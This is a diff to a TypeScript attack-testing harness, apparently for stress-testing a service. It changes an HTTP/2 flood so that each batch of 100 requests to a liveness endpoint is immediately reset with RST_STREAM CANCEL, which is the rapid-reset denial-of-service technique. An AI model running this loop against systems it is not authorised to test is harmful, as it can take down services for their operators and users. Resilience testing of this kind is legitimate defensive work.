@@ -8,6 +8,8 @@ import { literal, openRawHttp2, reference } from "./rawHttp2.ts";
 import { sendBodies } from "./sendBodies.ts";
 
 const MEGABYTE = 1024 * 1024;
+/** Of RST_STREAM. */
+const CANCEL = 8;
 
 /** `{"name":"attack"}` with blanks behind it, so many bytes in all. */
 const padded = (bytes: number): Buffer => {
@@ -136,7 +138,7 @@ export const attacks: readonly Attack[] = [
       onLines(40, attacker, async () => {
         const connection = await openRawHttp2(attacker.target);
         while (!attacker.signal.aborted && !connection.socket.destroyed) {
-          await connection.write(Buffer.concat(Array.from({ length: 100 }, () => connection.request(plainFields("/v2/liveness"), true))));
+          await connection.write(Buffer.concat(Array.from({ length: 100 }, () => connection.request(plainFields("/v2/liveness"), CANCEL))));
           attacker.count("100 resets");
           await sleep(1);
         }
